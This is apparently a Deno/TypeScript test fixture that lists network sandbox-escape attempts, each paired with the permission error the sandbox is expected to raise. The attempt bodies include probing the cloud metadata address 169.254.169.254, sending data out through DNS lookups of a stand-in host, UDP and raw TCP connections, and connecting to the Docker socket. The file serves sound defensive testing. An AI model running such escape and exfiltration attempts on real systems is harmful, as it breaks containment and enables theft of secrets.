import { type EscapeAttempt, NET } from "./attempt.ts";

/** Ways to anyone but the gateway. */
export const NETWORK_ATTEMPTS: readonly EscapeAttempt[] = [
  {
    name: "reach another host",
    body: `return (await fetch("https://example.com/")).status;`,
    refused: /net access to "example.com:443"/,
  },
  {
    name: "reach an address of the network",
    body: `return (await fetch("http://169.254.169.254/latest/")).status;`,
    refused: /net access to "169.254.169.254:80"/,
  },
  {
    name: "reach another port of this machine",
    body: "return (await fetch(`http://127.0.0.1:${params.port}/`)).status;",
    refused: NET,
  },
  {
    name: "reach it by TCP",
    body:
      `await Deno.connect({ hostname: "127.0.0.1", port: params.port }); return 1;`,
    refused: NET,
  },
  {
    name: "reach it by node:net",
    imports: `import net from "node:net"; import { once } from "node:events";`,
    body:
      `await once(net.connect(params.port, "127.0.0.1"), "connect"); return 1;`,
    refused: /Requires net access/,
  },
  {
    name: "reach it by a web socket",
    body:
      "return new Promise((done, fail) => { const socket = new WebSocket(`ws://127.0.0.1:${params.port}/`); socket.onopen = () => done(1); socket.onerror = (e) => fail(e.error ?? new Error(e.message)); });",
    refused: NET,
  },
  {
    name: "carry data out by DNS",
    body: `return await Deno.resolveDns("secret.example.com", "A");`,
    // Behind a second wall there is not even a list of name servers.
    refused: /Requires net access|No such file/,
  },
  {
    name: "carry data out by node:dns",
    imports: `import dns from "node:dns/promises";`,
    body: `return await dns.resolve4("secret.example.com");`,
    refused: /Requires net access|getaddrinfo|queryA/,
  },
  {
    name: "carry data out by UDP",
    imports:
      `import dgram from "node:dgram"; import { once } from "node:events";`,
    body:
      `const socket = dgram.createSocket("udp4"); socket.send("a", 53, "127.0.0.1"); await once(socket, "listening"); return 1;`,
    refused: /Requires net access/,
  },
  {
    name: "listen on a port",
    body: `return Deno.listen({ port: 0 }).addr.port;`,
    refused: NET,
  },
  {
    name: "speak to a socket of the system",
    body:
      `await Deno.connect({ transport: "unix", path: "/var/run/docker.sock" }); return 1;`,
    refused: /Requires (read|write|net) access/,
  },
];
